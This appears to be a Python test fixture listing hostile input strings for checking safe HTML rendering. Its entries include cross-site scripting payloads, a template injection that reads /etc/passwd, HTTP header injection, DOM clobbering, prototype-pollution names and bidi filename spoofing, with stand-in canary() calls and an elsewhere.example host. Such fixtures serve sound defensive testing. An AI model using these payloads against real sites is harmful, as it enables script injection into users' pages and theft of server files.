"""Texts that try to be more than text: markup, scripts, addresses, templates, and what breaks a page's lines.

All that could run calls `canary()`; all that could be fetched is at `elsewhere.example`.
"""

from __future__ import annotations

import re

STRINGS: dict[str, str] = {
    # Scripts.
    "script": "<script>canary()</script>",
    "script in capitals": "<ScRiPt SRC=//elsewhere.example/x.js></sCrIpT>",
    "script without its end": "<script>canary()//",
    "script with a slash": "<script/src=data:,canary()>",
    "script of a module": "<script type=module>import('//elsewhere.example/x.js')</script>",
    "script in halves": "<scr<script>ipt>canary()</scr</script>ipt>",
    # Handlers of events.
    "image": "<img src=x onerror=canary()>",
    "image without spaces": "<img/src/onerror=canary()>",
    "details": "<details open ontoggle=canary()>",
    "focus": "<input autofocus onfocus=canary()>",
    "body": "<body onload=canary() onpageshow=canary()>",
    "video": "<video><source onerror=canary()></video>",
    "animation": "<b style=animation-name:x onanimationstart=canary()>bold</b>",
    # Other languages inside HTML.
    "svg": "<svg onload=canary()><animate onbegin=canary() attributeName=x dur=1s></svg>",
    "svg link": '<svg><a xlink:href="javascript:canary()"><text y=20>x</text></a></svg>',
    "svg title": "</title><svg><title><img src=x onerror=canary()></title></svg>",
    "mathml": '<math><maction actiontype=statusline xlink:href="javascript:canary()">x</maction></math>',
    # Addresses.
    "javascript address": "javascript:canary()",
    "javascript address with a tab": "java\tscript:canary()//",
    "javascript link": '<a href="javascript:canary()" id=content>click</a>',
    "data address": "data:text/html,<script>parent.canary()</script>",
    "frame": '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
    "object": "<object data=//elsewhere.example/x></object><embed src=//elsewhere.example/x>",
    "form": "<form action=//elsewhere.example/><button autofocus>go</button></form>",
    "button of a form": "</form><button formaction=javascript:canary()>go</button>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
    "base": "<base href=//elsewhere.example/>",
    "link": "<link rel=stylesheet href=//elsewhere.example/x.css>",
    # Templates.
    "jinja": "{{ 7 * 191 }}{% for x in [1] %}{{ x }}{% endfor %}{# gone #}",
    "jinja to the system": "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "javascript template": "${canary()}`${canary()}`",
    "vue and angular": "{{constructor.constructor('canary()')()}}",
    "format": "%s%n%(name)s{0.__class__}",
    # Comments and sections.
    "comment": "<!-- --><img src=x onerror=canary()><!--",
    "comment without its end": "--><!--",
    "comment of a bang": "<!--!><img src=x onerror=canary()>-->",
    "cdata": "]]><![CDATA[<img src=x onerror=canary()>]]>",
    "processing instruction": "<?xml version='1.0'?><?php canary() ?>",
    # Out of the element that a page puts text into.
    "out of title": "</title><script>canary()</script>",
    "out of textarea": "</textarea><img src=x onerror=canary()>",
    "out of style": "</style><img src=x onerror=canary()>",
    "out of script": "</script><img src=x onerror=canary()>",
    "out of option": "</option></select><img src=x onerror=canary()>",
    "out of bdi": "</bdi></p></li></ul></main><main id=content>mine",
    "out of pre": "</code></pre></details></td></tr></table><h1>mine</h1>",
    "out of everything": "</body></html><script>canary()</script>",
    "into plain text": "<plaintext><xmp><listing>",
    # Out of an attribute.
    "double quote": '" autofocus onfocus=canary() x="',
    "single quote": "' accesskey=x onclick=canary() x='",
    "backtick": "` onfocus=canary() x=`",
    "end of a tag": '"><img src=x onerror=canary()>',
    "end of a tag, single": "'/><img src=x onerror=canary()>",
    "greater than": "> <",
    # What parsers change their minds about.
    "noscript": '<noscript><p title="</noscript><img src=x onerror=canary()>">',
    "template": "<template><script>canary()</script></template><template shadowrootmode=open>x</template>",
    "malformed nesting": "<table><tr><td><form><table><img src=x onerror=canary()></form></table>",
    "math and style": "<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror=canary()",
    "svg and style": "<svg></p><style><a id='</style><img src=x onerror=canary()>'>",
    "select": "<select><template><img src=x onerror=canary()></template></select>",
    # Entities.
    "entities": "&lt;script&gt;canary()&lt;/script&gt;",
    "entities twice": "&amp;lt;img src=x onerror=canary()&amp;gt;",
    "entities by number": "&#60;img src=x onerror=canary()&#x3e;&#0;&NotEqualTilde;&copy",
    "entity without its end": "&",
    # Names that objects and documents have.
    "prototype": "__proto__",
    "constructor": "constructor",
    "has own property": "hasOwnProperty",
    "forms": "forms",
    "location": "location",
    "cookie": "cookie",
    "clobbering": "<a id=main><a id=main name=dataset><form id=live><input name=attributes></form>",
    "clobbering the document": "<img name=getElementById><form name=querySelector></form>",
    # Styles.
    "style": "<style>*{background:url(//elsewhere.example/x)}</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:url(//elsewhere.example/x)'>over</p>",
    "style value": "red;} * { display: none } /*",
    "import": "@import url(//elsewhere.example/x.css);",
    # Characters.
    "control characters": "".join(map(chr, [*range(1, 32), *range(127, 160)])),
    "nul": "nul\0nul <img src=x\0onerror=canary()>\0",
    "line ends": "one\ntwo\r\nthree\rfour\u2028five\u2029six\x0bseven\x0ceight\x85nine",
    "spaces": " \t\u00a0\u2003\u3000 ",
    "header": "x\r\nSet-Cookie: evil=1\r\nLocation: //elsewhere.example/\r\n\r\n<p>",
    "bidi override": "\u202egnp.exe\u202c \u2066\u2067\u200f\u061c",
    "bidi without its end": "\u202e\u202d\u202b\u2067 left open",
    "zero width": "\u200b\u200c\u200d\ufeff\u2060\u00ad",
    "combining flood": "Z" + "\u0351\u0343\u0310" * 100,
    "four bytes": "\U0001f468\u200d\U0001f469 \U0001f3f4\U000e0067\U000e007f \U00020000\U0010fffd",
    "no characters": "\ufffe\uffff\U0001ffff",
    "replacement": "\ufffd",
    "another script": "\u0627\u0644\u0633\u0644\u0627\u0645 123 \u05e9\u05dc\u05d5\u05dd",
    "wide markup": "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    # Sizes.
    "one word": "w" * 5_000,
    "many lines": "line\n" * 400,
}

LONGEST = "W" * 100_000
"""Without a space; too long for an address."""

TYPES = (
    "__proto__",
    "constructor",
    "javascript:canary",
    "data:text",
    "..",
    "--",
    ":",
    "all",
    "bulk",
    "forms",
    "t" * 255,
)
"""What a type may be called at worst."""

NAMES = ("constructor", "javascript:canary", "data:text", "a..", "a--", "forms", "i" * 128)
"""What a job's id may be at worst."""


def harmless(text: str, sign: str = "x") -> str:
    """The same length, letters and spaces, without any sign that means something to HTML."""
    return re.sub(r"[!-/:-@\[-_{-~]", sign, text)
